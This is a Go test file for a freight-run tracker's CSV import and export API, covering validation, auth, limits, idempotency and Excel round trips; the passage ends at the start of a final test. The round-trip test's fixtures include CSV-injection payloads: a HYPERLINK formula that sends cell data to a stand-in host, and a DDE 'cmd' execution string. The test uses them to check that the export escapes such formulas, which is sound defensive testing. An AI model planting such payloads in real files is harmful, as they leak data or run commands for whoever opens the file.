package handlers_test

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"reflect"
	"sort"
	"strings"
	"testing"
	"time"

	"banlie/handlers"
	"banlie/models"
	"banlie/store"
)

// CSV import and export over HTTP: POST /api/v1/runs/import and
// GET /api/v1/runs/export, the twins of `banlie import|export --runs`.

const csvHead = "route,number,direction,departed_at,arrived_at,status,containers,teu,cargo,container_numbers\n"

// importResult is the 200 answer of an import.
type importResult struct {
	Mode         string              `json:"mode"`
	Created      int                 `json:"created"`
	Updated      int                 `json:"updated"`
	UpdatedIDs   []int64             `json:"updated_ids"`
	Unchanged    int                 `json:"unchanged"`
	Skipped      int                 `json:"skipped"`
	SkippedBlank int                 `json:"skipped_blank"`
	Errors       []models.FieldError `json:"errors"`
	Format       struct {
		Separator string            `json:"separator"`
		Charset   string            `json:"charset"`
		Columns   map[string]string `json:"columns"`
	} `json:"format"`
}

// mustUpsert imports with mode=upsert and checks the counts of a 200
// answer (want's counts; its ids unless nil).
func mustUpsert(t testing.TB, ts *testServer, body string, want importResult, header ...string) importResult {
	t.Helper()
	r := importCSV(t, ts, "?mode=upsert", body, header...)
	if r.Status != http.StatusOK {
		t.Fatalf("import?mode=upsert: status %d: %s", r.Status, r.Body)
	}
	var got importResult
	r.decode(t, &got)
	if got.Mode != "upsert" || got.Created != want.Created || got.Updated != want.Updated || got.Unchanged != want.Unchanged || got.Skipped != want.Skipped ||
		got.SkippedBlank != want.SkippedBlank || len(got.Errors) != 0 || len(got.UpdatedIDs) != got.Updated ||
		want.UpdatedIDs != nil && !reflect.DeepEqual(got.UpdatedIDs, want.UpdatedIDs) {
		t.Fatalf("import?mode=upsert: %s, want %+v", r.Body, want)
	}
	return got
}

// withoutID is an exported CSV without its id column.
func withoutID(t testing.TB, b []byte) string {
	t.Helper()
	rows, err := csv.NewReader(bytes.NewReader(b)).ReadAll()
	if err != nil || len(rows) == 0 || rows[0][0] != "id" {
		t.Fatalf("not an export: %v\n%s", err, b)
	}
	var out bytes.Buffer
	w := csv.NewWriter(&out)
	for _, row := range rows {
		_ = w.Write(row[1:])
	}
	w.Flush()
	return out.String()
}

// importCSV posts a CSV body as text/csv with the operator token unless
// header says otherwise.
func importCSV(t testing.TB, ts *testServer, query, body string, header ...string) response {
	t.Helper()
	h := append([]string{"Content-Type", "text/csv", "Authorization", "Bearer " + ts.Operator}, header...)
	return ts.do(t, "POST", "/api/v1/runs/import"+query, body, h...)
}

// mustImport imports and checks the counts of a 200 answer.
func mustImport(t testing.TB, ts *testServer, query, body string, created, skipped int, header ...string) response {
	t.Helper()
	r := importCSV(t, ts, query, body, header...)
	if r.Status != http.StatusOK {
		t.Fatalf("import%s: status %d: %s", query, r.Status, r.Body)
	}
	var got importResult
	r.decode(t, &got)
	if got.Created != created || got.Skipped != skipped || got.Errors == nil || len(got.Errors) != 0 {
		t.Fatalf("import%s: %s, want created %d, skipped %d, errors []", query, r.Body, created, skipped)
	}
	return r
}

// runsCreatedAudit counts the audit entries of created runs, by actor.
func runsCreatedAudit(t testing.TB, ts *testServer) map[string]int {
	t.Helper()
	var page struct {
		Items []struct{ Actor string }
	}
	ts.mustDo(t, 200, "GET", "/api/v1/audit?entity=run&action=runs.create&limit=500", nil).decode(t, &page)
	out := map[string]int{}
	for _, e := range page.Items {
		out[e.Actor]++
	}
	return out
}

// exportCSV gets the export with query and parses it.
func exportCSV(t testing.TB, ts *testServer, query string, header ...string) (response, [][]string) {
	t.Helper()
	r := ts.mustDo(t, 200, "GET", "/api/v1/runs/export"+query, nil, header...)
	if ct := r.Header.Get("Content-Type"); ct != "text/csv; charset=utf-8" {
		t.Fatalf("export content type %q", ct)
	}
	if cd := r.Header.Get("Content-Disposition"); cd != `attachment; filename="runs.csv"` {
		t.Fatalf("export Content-Disposition %q", cd)
	}
	rows, err := csv.NewReader(bytes.NewReader(r.Body)).ReadAll()
	if err != nil {
		t.Fatalf("the export is not CSV: %v\n%s", err, r.Body)
	}
	if len(rows) == 0 || !reflect.DeepEqual(rows[0], store.RunCSVHeader) {
		t.Fatalf("export header %v", rows)
	}
	return r, rows[1:]
}

const goodCSV = csvHead +
	"SCO-TJ-MOW,X8024,outbound,2024-10-12T09:30:00+08:00,,departed,55,110,\"auto parts, household appliances\",CSQU3054383\n" +
	"SCO-TJ-MOW,X8025,inbound,2024-10-13T09:30:00+08:00,2024-10-28T10:00:00+03:00,arrived,50,100,,\n" +
	"SCO-TJ-MOW,X8026,outbound,2024-10-14T01:00:00Z,,,40,80,电子产品,\n"

func TestImportRunsCSV(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	createRoute(t, ts, "SCO-TJ-MOW", nil)

	// A dry run says what would happen and writes nothing, audit included.
	mustImport(t, ts, "?dry_run=true", goodCSV, 3, 0)
	if n := len(allRuns(t, ts, "", 500)); n != 0 {
		t.Fatalf("a dry run wrote %d runs", n)
	}
	if a := runsCreatedAudit(t, ts); len(a) != 0 {
		t.Fatalf("a dry run was audited: %v", a)
	}

	mustImport(t, ts, "", goodCSV, 3, 0)
	runs := allRuns(t, ts, "", 500)
	if len(runs) != 3 {
		t.Fatalf("%d runs stored, want 3", len(runs))
	}
	byNumber := map[string]runJSON{}
	for _, r := range runs {
		byNumber[r.Number] = r
	}
	if r := byNumber["X8025"]; r.Status != "arrived" || r.ArrivedAt == nil || *r.ArrivedAt != "2024-10-28T15:00:00+08:00" || r.Direction != "inbound" || r.Cargo != nil {
		t.Errorf("X8025 stored as %+v", r)
	}
	if r := byNumber["X8024"]; r.Cargo == nil || *r.Cargo != "auto parts, household appliances" || !reflect.DeepEqual(r.ContainerNumbers, []string{"CSQU3054383"}) {
		t.Errorf("X8024 stored as %+v", r)
	}
	if r := byNumber["X8026"]; r.Status != "departed" || r.DepartedAt != "2024-10-14T09:00:00+08:00" || r.Cargo == nil || *r.Cargo != "电子产品" {
		t.Errorf("X8026 stored as %+v", r)
	}
	// One audit entry per created run, by the importing token.
	if a := runsCreatedAudit(t, ts); !reflect.DeepEqual(a, map[string]int{"test-operator": 3}) {
		t.Fatalf("audit of the import: %v", a)
	}

	// The same file again, without a key (a retry over a flaky link): every
	// line is skipped, nothing is counted twice or audited again.
	mustImport(t, ts, "", goodCSV, 0, 3)
	mustImport(t, ts, "?dry_run=true", goodCSV, 0, 3)
	if n := len(allRuns(t, ts, "", 500)); n != 3 {
		t.Fatalf("a re-import changed the runs: %d", n)
	}
	if a := runsCreatedAudit(t, ts); !reflect.DeepEqual(a, map[string]int{"test-operator": 3}) {
		t.Fatalf("audit after the re-import: %v", a)
	}
	// A file with old and new lines: the new ones are created, the old skipped.
	more := goodCSV + "SCO-TJ-MOW,X8027,outbound,2024-10-15T09:30:00+08:00,,,10,20,,\n"
	mustImport(t, ts, "", more, 1, 3)
	// The import shows in the totals like any other run once rolled up.
	if n := len(allRuns(t, ts, "counted=true", 500)); n != 4 {
		t.Fatalf("%d counted runs, want 4", n)
	}
	// A header alone is an empty import.
	mustImport(t, ts, "", csvHead, 0, 0)
}

func TestImportRunsCSVListsEveryProblemAndWritesNothing(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	createRoute(t, ts, "SCO-TJ-MOW", nil)
	createRun(t, ts, runBody("SCO-TJ-MOW", "X8024", "2024-10-12T09:30:00+08:00"))
	bad := csvHead +
		"SCO-TJ-MOW,X9001,outbound,2024-11-01T10:00:00+08:00,,,55,110,,\n" + // fine on its own
		"SCO-TJ-MOW,X9002,outbound,2024-11-02T10:00:00+08:00,,,55,5000,,\n" + // teu out of range
		"SCO-TJ-MOW,X9003,west,2024-11-03T10:00:00+08:00,,,many,1,,\n" + // direction, containers
		"SCO-TJ-MOW,X8024,outbound,2024-10-12T20:00:00+08:00,,,40,80,,\n" + // same train and day, other values
		"NOPE,X9004,outbound,2024-11-04,,,1,1,,CSQU3054384\n" // route, departed_at, container number
	for _, q := range []string{"", "?dry_run=true"} {
		p := importCSV(t, ts, q, bad).problem(t, http.StatusUnprocessableEntity)
		want := []string{"line 3: teu", "line 4: containers", "line 4: direction", "line 5",
			"line 6: container_numbers[0]", "line 6: departed_at", "line 6: route"}
		got := fields(p)
		sort.Strings(got)
		if !reflect.DeepEqual(got, want) {
			t.Fatalf("import%s: problems %v\nwant %v", q, got, want)
		}
		if !strings.Contains(p.Detail, "nothing was imported") {
			t.Errorf("detail %q", p.Detail)
		}
	}
	if n := len(allRuns(t, ts, "", 500)); n != 1 {
		t.Fatalf("a refused import wrote runs: %d, want the 1 stored before", n)
	}
	if a := runsCreatedAudit(t, ts); !reflect.DeepEqual(a, map[string]int{"test-admin": 1}) {
		t.Fatalf("a refused import was audited: %v", a)
	}

	// What cannot be read as a runs CSV at all is a 400.
	for name, body := range map[string]string{
		"unknown column":  "route,number,direction,departed_at,wagons\n",
		"missing column":  "route,number,departed_at\nSCO-TJ-MOW,X1,2024-11-01T10:00:00+08:00\n",
		"empty body":      "",
		"blank body":      " \r\n",
		"not UTF-8 (GBK)": csvHead + "SCO-TJ-MOW,X9101,outbound,2024-11-01T10:00:00+08:00,,,1,1,\xb5\xe7\xd7\xd3,\n",
		"UTF-16":          "\xff\xfer\x00o\x00u\x00t\x00e\x00\n\x00",
	} {
		p := importCSV(t, ts, "", body).problem(t, http.StatusBadRequest)
		if p.Detail == "" {
			t.Errorf("%s: 400 without a reason", name)
		}
	}
	p := importCSV(t, ts, "?dry_run=maybe", goodCSV).problem(t, http.StatusBadRequest)
	if !reflect.DeepEqual(fields(p), []string{"dry_run"}) {
		t.Fatalf("dry_run=maybe: fields %v", fields(p))
	}
	if n := len(allRuns(t, ts, "", 500)); n != 1 {
		t.Fatalf("refused imports wrote runs: %d", n)
	}
}

func TestImportRunsCSVContentTypes(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	createRoute(t, ts, "SCO-TJ-MOW", nil)
	line := func(n string) string {
		return csvHead + "SCO-TJ-MOW," + n + ",outbound,2024-10-12T09:30:00+08:00,,,55,110,,\n"
	}
	for i, ct := range []string{"text/csv", "text/csv; charset=utf-8", "text/csv; charset=UTF-8; header=present", "text/plain", "text/plain; charset=us-ascii",
		"text/csv; charset=gb18030", "text/csv; charset=GBK"} {
		mustImport(t, ts, "", line(fmt.Sprintf("G%d", i)), 1, 0, "Content-Type", ct)
	}
	// No Content-Type at all is read as CSV (the document says so in words:
	// its request validator would refuse a body without one), sent directly.
	req, err := http.NewRequest("POST", ts.URL+"/api/v1/runs/import", strings.NewReader(line("N1")))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+ts.Operator)
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	body, _ := io.ReadAll(res.Body)
	res.Body.Close()
	if res.StatusCode != 200 || !strings.Contains(string(body), `"created":1`) {
		t.Fatalf("without Content-Type: %d %s", res.StatusCode, body)
	}
	// Anything else is a 415 naming Content-Type; curl's default for
	// --data-binary (a form) included: the body is not a form.
	for i, ct := range []string{"application/json", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x",
		"application/vnd.ms-excel", "text/csv; charset=big5", "text/csv; charset=gb2312", "text/plain; charset=utf-16", "nonsense"} {
		p := importCSV(t, ts, "", line(fmt.Sprintf("B%d", i)), "Content-Type", ct).problem(t, http.StatusUnsupportedMediaType)
		if !reflect.DeepEqual(fields(p), []string{"Content-Type"}) {
			t.Errorf("%s: fields %v", ct, fields(p))
		}
	}
	if n := len(allRuns(t, ts, "", 500)); n != 8 {
		t.Fatalf("%d runs stored, want the 8 CSV ones", n)
	}
}

func TestImportRunsCSVNeedsOperator(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	createRoute(t, ts, "SCO-TJ-MOW", nil)
	p := importCSV(t, ts, "", goodCSV, "Authorization", "").problem(t, http.StatusUnauthorized)
	if p.Detail == "" {
		t.Error("401 without a reason")
	}
	importCSV(t, ts, "", goodCSV, "Authorization", "Bearer bnl_notatoken").problem(t, http.StatusUnauthorized)
	importCSV(t, ts, "", goodCSV, "Authorization", "Bearer "+ts.Viewer).problem(t, http.StatusForbidden)
	// A dry run writes nothing but still needs the role.
	importCSV(t, ts, "?dry_run=true", goodCSV, "Authorization", "Bearer "+ts.Viewer).problem(t, http.StatusForbidden)
	if n := len(allRuns(t, ts, "", 500)); n != 0 {
		t.Fatalf("refused imports wrote %d runs", n)
	}
	mustImport(t, ts, "", goodCSV, 3, 0)
	mustImport(t, ts, "", goodCSV, 0, 3, "Authorization", "Bearer "+ts.Admin)
}

// The import's body is bounded by the import limit, not the body limit.
func TestImportRunsCSVImportLimit(t *testing.T) {
	t.Parallel()
	ts := newTestServerWith(t, shanghai, func(c *handlers.Config) { c.ImportLimit, c.BodyLimit = "2KiB", "1KiB" })
	createRoute(t, ts, "SCO-TJ-MOW", nil)
	var b strings.Builder
	b.WriteString(csvHead)
	for i := 0; b.Len() <= 2048; i++ {
		fmt.Fprintf(&b, "SCO-TJ-MOW,L%d,outbound,2024-10-%02dT09:30:00+08:00,,,55,110,,\n", i, 1+i%28)
	}
	big := b.String()
	importCSV(t, ts, "", big).problem(t, http.StatusRequestEntityTooLarge)
	importCSV(t, ts, "", big, "Idempotency-Key", "big-1").problem(t, http.StatusRequestEntityTooLarge)
	// Without a Content-Length (chunked), the limit still holds: a 413, not
	// a CSV problem about a cut-off line. Sent directly: a streamed body.
	req, err := http.NewRequest("POST", ts.URL+"/api/v1/runs/import", io.MultiReader(strings.NewReader(big)))
	if err != nil {
		t.Fatal(err)
	}
	req.Header.Set("Authorization", "Bearer "+ts.Operator)
	req.Header.Set("Content-Type", "text/csv")
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	res.Body.Close()
	if res.StatusCode != http.StatusRequestEntityTooLarge || req.ContentLength != 0 {
		t.Fatalf("a chunked body over the limit: %d (content length %d)", res.StatusCode, req.ContentLength)
	}
	if n := len(allRuns(t, ts, "", 500)); n != 0 {
		t.Fatalf("bodies over the limit wrote %d runs", n)
	}
	mustImport(t, ts, "", goodCSV, 3, 0)
	// Over the body limit (1 KiB) but within the import limit: read.
	var mid strings.Builder
	mid.WriteString(csvHead)
	for i := 0; mid.Len() <= 1500; i++ {
		fmt.Fprintf(&mid, "SCO-TJ-MOW,M%d,outbound,2024-10-%02dT09:30:00+08:00,,,55,110,,\n", i, 1+i%28)
	}
	if r := importCSV(t, ts, "?dry_run=true", mid.String()); r.Status != http.StatusOK {
		t.Fatalf("a body within the import limit: %d %s", r.Status, r.Body)
	}
}

func TestImportRunsCSVIdempotencyKey(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	createRoute(t, ts, "SCO-TJ-MOW", nil)
	// Ten concurrent retries with one key: one import, ten identical answers.
	answers := atOnce(10, func() response {
		return importCSV(t, ts, "", goodCSV, "Idempotency-Key", "csv-flaky-0001")
	})
	replayed := 0
	for i, a := range answers {
		if a.Status != 200 || string(a.Body) != string(answers[0].Body) {
			t.Fatalf("answer %d differs: %d %s, first %d %s", i, a.Status, a.Body, answers[0].Status, answers[0].Body)
		}
		if a.Header.Get("Idempotent-Replayed") == "true" {
			replayed++
		}
	}
	var first importResult
	answers[0].decode(t, &first)
	if first.Created != 3 || first.Skipped != 0 || replayed != 9 {
		t.Fatalf("answer %s, %d replayed; want created 3 and 9 replays", answers[0].Body, replayed)
	}
	if n := len(allRuns(t, ts, "", 500)); n != 3 {
		t.Fatalf("%d runs written, want 3", n)
	}
	if a := runsCreatedAudit(t, ts); !reflect.DeepEqual(a, map[string]int{"test-operator": 3}) {
		t.Fatalf("audit: %v", a)
	}
	// Later retries with the key replay the first answer (created 3),
	// byte for byte, and write nothing.
	again := importCSV(t, ts, "", goodCSV, "Idempotency-Key", "csv-flaky-0001")
	if again.Status != 200 || string(again.Body) != string(answers[0].Body) || again.Header.Get("Idempotent-Replayed") != "true" {
		t.Fatalf("replay: %d %s %v", again.Status, again.Body, again.Header)
	}
	// The key with another request (a dry run, or another file) is a 422.
	for _, q := range []string{"?dry_run=true", ""} {
		body := goodCSV
		if q == "" {
			body = csvHead
		}
		p := importCSV(t, ts, q, body, "Idempotency-Key", "csv-flaky-0001").problem(t, http.StatusUnprocessableEntity)
		if !reflect.DeepEqual(fields(p), []string{"Idempotency-Key"}) {
			t.Fatalf("reused key: fields %v", fields(p))
		}
	}
	// Another key, or none, for the same file: a new request, every line skipped.
	mustImport(t, ts, "", goodCSV, 0, 3, "Idempotency-Key", "csv-flaky-0002")
	mustImport(t, ts, "", goodCSV, 0, 3)
	// A refused import's answer is kept too: the retry gets the same 422.
	bad := csvHead + "SCO-TJ-MOW,X9,outbound,2024-11-01T10:00:00+08:00,,,55,5000,,\n"
	r1 := importCSV(t, ts, "", bad, "Idempotency-Key", "csv-bad-1")
	r2 := importCSV(t, ts, "", bad, "Idempotency-Key", "csv-bad-1")
	if r1.Status != 422 || r2.Status != 422 || string(r1.Body) != string(r2.Body) || r2.Header.Get("Idempotent-Replayed") != "true" {
		t.Fatalf("refused import replay: %d %d %s", r1.Status, r2.Status, r2.Body)
	}
	if n := len(allRuns(t, ts, "", 500)); n != 3 {
		t.Fatalf("%d runs after the retries, want 3", n)
	}
	if a := runsCreatedAudit(t, ts); !reflect.DeepEqual(a, map[string]int{"test-operator": 3}) {
		t.Fatalf("audit after the retries: %v", a)
	}
}

// csvRuns sets up runs of every kind on two routes.
func csvRuns(t *testing.T, ts *testServer) {
	t.Helper()
	createRoute(t, ts, "SCO-TJ-MOW", nil)
	createRoute(t, ts, "QD-ROAD-1", func(b map[string]any) { b["mode"] = "road" })
	run := func(route, number, dir, dep, status string, change func(map[string]any)) {
		b := runBody(route, number, dep)
		b["direction"], b["status"] = dir, status
		if change != nil {
			change(b)
		}
		createRun(t, ts, b)
	}
	run("SCO-TJ-MOW", "X8024", "outbound", "2024-10-12T09:30:00+08:00", "departed", nil)
	run("SCO-TJ-MOW", "X8025", "inbound", "2024-10-31T20:00:00Z", "arrived", func(b map[string]any) { // 1 November in Shanghai
		b["arrived_at"] = "2024-11-15T10:00:00.123456+03:00"
		b["cargo"] = "timber, \"rough\"\nand sawn; 木材"
		b["container_numbers"] = []string{"CSQU3054383", validContainerNumber(t, "MSCU123456")}
	})
	run("SCO-TJ-MOW", "X8026", "outbound", "2024-11-02T09:30:00+08:00", "cancelled", func(b map[string]any) {
		b["cargo"] = nil
		b["container_numbers"] = []string{}
	})
	run("QD-ROAD-1", "T001", "outbound", "2024-11-03T09:30:00+08:00", "departed", func(b map[string]any) {
		b["containers"], b["teu"], b["cargo"] = 0, 0, ""
		b["container_numbers"] = []string{}
	})
	run("QD-ROAD-1", "T002", "inbound", "2027-01-05T09:30:00+08:00", "planned", nil) // in the future
}

// validContainerNumber completes owner, category and serial with the right check digit.
func validContainerNumber(t *testing.T, prefix string) string {
	t.Helper()
	for d := '0'; d <= '9'; d++ {
		if n := prefix + string(d); models.ValidContainerNumber(n) == nil {
			return n
		}
	}
	t.Fatalf("no check digit completes %s", prefix)
	return ""
}

func TestExportRunsCSV(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	csvRuns(t, ts)
	// Public like the list: no token needed. /runs/export is not a run id.
	r, rows := exportCSV(t, ts, "", "Authorization", "")
	numbers := func(rows [][]string) []string {
		out := []string{}
		for _, row := range rows {
			out = append(out, row[2])
		}
		return out
	}
	if got := numbers(rows); !reflect.DeepEqual(got, []string{"T002", "T001", "X8026", "X8025", "X8024"}) {
		t.Fatalf("export order %v, want newest departure first", got)
	}
	want := []string{rows[3][0], "SCO-TJ-MOW", "X8025", "inbound", "2024-11-01T04:00:00+08:00", "2024-11-15T15:00:00.123456+08:00", "arrived",
		"55", "110", "timber, \"rough\"\nand sawn; 木材", "CSQU3054383;" + validContainerNumber(t, "MSCU123456"), "0"}
	if !reflect.DeepEqual(rows[3], want) {
		t.Fatalf("X8025 exported as\n%q\nwant\n%q", rows[3], want)
	}
	if !reflect.DeepEqual(rows[2][9:11], []string{"", ""}) {
		t.Errorf("a run without cargo and containers: %q", rows[2])
	}
	// Every filter of the list applies, and selects what the list selects.
	for _, q := range []string{"route=SCO-TJ-MOW", "route=NOPE", "mode=road", "mode=rail&direction=inbound", "direction=outbound",
		"status=planned", "status=arrived", "from=2024-11-01", "to=2024-10-31", "from=2024-11-01&to=2024-11-02",
		"counted=true", "counted=false", "route=QD-ROAD-1&counted=true"} {
		_, got := exportCSV(t, ts, "?"+q)
		list := []string{}
		for _, run := range allRuns(t, ts, q, 500) {
			list = append(list, run.Number)
		}
		if !reflect.DeepEqual(numbers(got), list) {
			t.Errorf("export?%s: %v, the list: %v", q, numbers(got), list)
		}
	}
	// Paging is the list's: the export, which holds every selected run,
	// refuses its parameters rather than seem to honour them.
	p := ts.do(t, "GET", "/api/v1/runs/export?limit=1&cursor=x", nil).problem(t, http.StatusBadRequest)
	if !reflect.DeepEqual(fields(p), []string{"cursor", "limit"}) || p.Errors[0].Code != models.CodeUnknownParameter {
		t.Errorf("export?limit=1&cursor=x: errors %+v", p.Errors)
	}
	// Filters that cannot be parsed: 400 naming the parameter.
	for q, field := range map[string]string{"mode=boat": "mode", "direction=west": "direction", "status=lost": "status",
		"counted=maybe": "counted", "from=2024-13-01": "from", "from=2024-11-02&to=2024-11-01": "to"} {
		p := ts.do(t, "GET", "/api/v1/runs/export?"+q, nil).problem(t, http.StatusBadRequest)
		if !reflect.DeepEqual(fields(p), []string{field}) {
			t.Errorf("export?%s: fields %v", q, fields(p))
		}
	}
	// HEAD answers the headers without the CSV; an unchanged export revalidates.
	h := ts.mustDo(t, 200, "HEAD", "/api/v1/runs/export", nil)
	if len(h.Body) != 0 || h.Header.Get("Content-Type") != "text/csv; charset=utf-8" {
		t.Errorf("HEAD: %d bytes, %q", len(h.Body), h.Header.Get("Content-Type"))
	}
	if etag := r.Header.Get("ETag"); etag != "" {
		ts.mustDo(t, http.StatusNotModified, "GET", "/api/v1/runs/export", nil, "If-None-Match", etag)
	}
	// The run routes are not shadowed, nor do the CSV paths pass for ids.
	ts.mustDo(t, 200, "GET", "/api/v1/runs", nil)
	// Another method on a CSV path falls through, in Echo's router, to
	// /runs/:id, which has no run "export" or "import": 404. (Sent directly:
	// the OpenAPI router would call it a 405 of the CSV path instead.)
	for _, mp := range [][2]string{{"DELETE", "/api/v1/runs/export"}, {"PATCH", "/api/v1/runs/export"}, {"GET", "/api/v1/runs/import"}} {
		req, err := http.NewRequest(mp[0], ts.URL+mp[1], nil)
		if err != nil {
			t.Fatal(err)
		}
		req.Header.Set("Authorization", "Bearer "+ts.Admin)
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		body, _ := io.ReadAll(res.Body)
		res.Body.Close()
		if res.StatusCode != http.StatusNotFound || res.Header.Get("Content-Type") != "application/problem+json" || !strings.Contains(string(body), "no run with id") {
			t.Errorf("%s %s: %d %s", mp[0], mp[1], res.StatusCode, body)
		}
	}
	if n := len(allRuns(t, ts, "", 500)); n != 5 {
		t.Fatalf("%d runs, want 5", n)
	}

	// With private reads, the export needs a token like the list.
	private := newTestServerWith(t, shanghai, func(c *handlers.Config) { c.PrivateReads = true })
	private.do(t, "GET", "/api/v1/runs/export", nil, "Authorization", "").problem(t, http.StatusUnauthorized)
	exportCSV(t, private, "", "Authorization", "Bearer "+private.Viewer)
	ts.do(t, "GET", "/api/v1/runs/export", nil, "Authorization", "Bearer bnl_wrong").problem(t, http.StatusUnauthorized)
}

// TestRunsCSVRoundTrip exports from one server and imports into a fresh one:
// the same runs, and the same export again.
func TestRunsCSVRoundTrip(t *testing.T) {
	t.Parallel()
	a := newTestServer(t)
	csvRuns(t, a)
	// Values a spreadsheet would run as formulas (CSV injection).
	formulas := map[string]string{
		"F1":  "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
		"F2":  "+cmd|' /C calc'!A0",
		"F3":  "-2+3",
		"F4":  "@SUM(1,2)",
		"F5":  "'=already marked by hand",
		"F6":  "''+two apostrophes",
		"F7":  "\tleading tab", // stored without the tab
		"F10": " @SUM(1,2) ",   // stored without the spaces, then marked on export
		"F8":  "'plain apostrophe, no formula",
	}
	day := 1
	for number, cargo := range formulas {
		b := runBody("SCO-TJ-MOW", number, fmt.Sprintf("2024-09-%02dT09:30:00+08:00", day))
		b["cargo"], b["container_numbers"] = cargo, []string{}
		createRun(t, a, b)
		day++
	}
	b := runBody("SCO-TJ-MOW", "=1+1", "2024-08-01T09:30:00+08:00") // a train number, too
	b["container_numbers"] = []string{}
	createRun(t, a, b)

	exported, rows := exportCSV(t, a, "")
	if len(rows) != 5+len(formulas)+1 {
		t.Fatalf("%d runs exported", len(rows))
	}
	// No cell of the export starts a formula.
	for _, row := range rows {
		for _, cell := range row {
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				t.Errorf("exported cell %q starts a formula", cell)
			}
		}
	}
	if !bytes.Contains(exported.Body, []byte(`'=HYPERLINK(`)) || !bytes.Contains(exported.Body, []byte(`,'=1+1,`)) {
		t.Errorf("formula cells are not marked with an apostrophe:\n%s", exported.Body)
	}

	// Into a fresh server with the same routes: the same runs.
	fresh := newTestServer(t)
	createRoute(t, fresh, "SCO-TJ-MOW", nil)
	createRoute(t, fresh, "QD-ROAD-1", func(b map[string]any) { b["mode"] = "road" })
	// Without its id column: an id is this server's own.
	mustImport(t, fresh, "", withoutID(t, exported.Body), len(rows), 0)
	strip := func(runs []runJSON) []runJSON {
		for i := range runs {
			runs[i].ID = 0
			if runs[i].Cargo != nil && strings.TrimSpace(*runs[i].Cargo) == "" {
				runs[i].Cargo = nil // a CSV cell (trimmed) cannot tell a blank cargo from none
			}
		}
		return runs
	}
	before, after := strip(allRuns(t, a, "", 500)), strip(allRuns(t, fresh, "", 500))
	if !reflect.DeepEqual(before, after) {
		t.Fatalf("round trip changed the runs:\nexported %+v\nimported %+v", before, after)
	}
	for _, r := range after {
		// Cargo is stored without blank space around it.
		if want, ok := formulas[r.Number]; ok && (r.Cargo == nil || *r.Cargo != strings.TrimSpace(want)) {
			t.Errorf("%s: cargo %v after the round trip, want %q", r.Number, r.Cargo, want)
		}
	}
	again := a.mustDo(t, 200, "GET", "/api/v1/runs/export", nil)
	// The same but for the ids, each server's own.
	if second := fresh.mustDo(t, 200, "GET", "/api/v1/runs/export", nil); withoutID(t, second.Body) != withoutID(t, again.Body) {
		t.Fatalf("the fresh server exports\n%s\nthe first\n%s", second.Body, again.Body)
	}
	// A cargo that is only a tab is marked on export too, and the line reads
	// back as the run already stored.
	tab := runBody("SCO-TJ-MOW", "F9", "2024-07-01T09:30:00+08:00")
	tab["cargo"], tab["container_numbers"] = "\t", []string{}
	createRun(t, a, tab)
	withTab, tabRows := exportCSV(t, a, "")
	mustUpsert(t, a, string(withTab.Body), importResult{Unchanged: len(tabRows)})
	// Back into the first server: every line is already there.
	mustUpsert(t, a, string(exported.Body), importResult{Unchanged: len(rows)})
	mustImport(t, fresh, "", withoutID(t, exported.Body), 0, len(rows))
	// A filtered export round-trips on its own.
	_, inbound := exportCSV(t, a, "?direction=inbound")
	part, _ := exportCSV(t, a, "?direction=inbound")
	third := newTestServer(t)
	createRoute(t, third, "SCO-TJ-MOW", nil)
	createRoute(t, third, "QD-ROAD-1", func(b map[string]any) { b["mode"] = "road" })
	mustImport(t, third, "", withoutID(t, part.Body), len(inbound), 0)
	if n := len(allRuns(t, third, "", 500)); n != len(inbound) {
		t.Fatalf("%d runs after importing %d inbound ones", n, len(inbound))
	}
}

// TestImportRunsCSVFromExcel: Excel's "CSV UTF-8" has a byte order mark and
// CRLF line ends, quotes cells only when it must, and users mark text
// with a leading apostrophe.
func TestImportRunsCSVFromExcel(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
	createRoute(t, ts, "SCO-TJ-MOW", nil)
	excel := "\ufeffroute,number,direction,departed_at,containers,teu,cargo\r\n" +
		"SCO-TJ-MOW,X8024,outbound,2024-10-12T09:30:00+08:00,55,110,\"auto parts\r\nand appliances\"\r\n" +
		"SCO-TJ-MOW, X8025 ,inbound,2024-10-13T09:30:00+08:00,50,100,'=SUM(A1:A3)\r\n" +
		"SCO-TJ-MOW,X8026,outbound,2024-10-14T09:30:00+08:00,,,\r\n"
	mustImport(t, ts, "", excel, 3, 0)
	got := map[string]runJSON{}
	for _, r := range allRuns(t, ts, "", 500) {
		got[r.Number] = r
	}
	if r := got["X8024"]; r.Cargo == nil || *r.Cargo != "auto parts\nand appliances" {
		t.Errorf("X8024: %+v", r)
	}
	if r := got["X8025"]; r.Cargo == nil || *r.Cargo != "=SUM(A1:A3)" || r.Direction != "inbound" {
		t.Errorf("X8025: %+v", r)
	}
	if r := got["X8026"]; r.Cargo != nil || r.Containers != 0 || r.TEU != 0 {
		t.Errorf("X8026: %+v", r)
	}
	// The same file again: skipped, BOM, CRLF and all.
	mustImport(t, ts, "", excel, 0, 3)
	// Its export imports back as skipped, too.
	exported, _ := exportCSV(t, ts, "")
	mustUpsert(t, ts, string(exported.Body), importResult{Unchanged: 3})
	// A byte order mark before a quoted header cell (sent as text/plain:
	// the OpenAPI checker's own CSV reader stumbles on that BOM).
	quoted := "\ufeff\"route\",\"number\",\"direction\",\"departed_at\"\r\nSCO-TJ-MOW,X8027,outbound,2024-10-15T09:30:00+08:00\r\n"
	mustImport(t, ts, "", quoted, 1, 0, "Content-Type", "text/plain; charset=utf-8")
}

// An import of a few thousand lines is no longer bounded in lines; one
// over the server's own read and write timeouts goes on while its body
// arrives and its lines are written (the deadlines move with it).
func TestImportRunsCSVPastServerTimeouts(t *testing.T) {
	t.Parallel()
	ts := newTestServer(t)
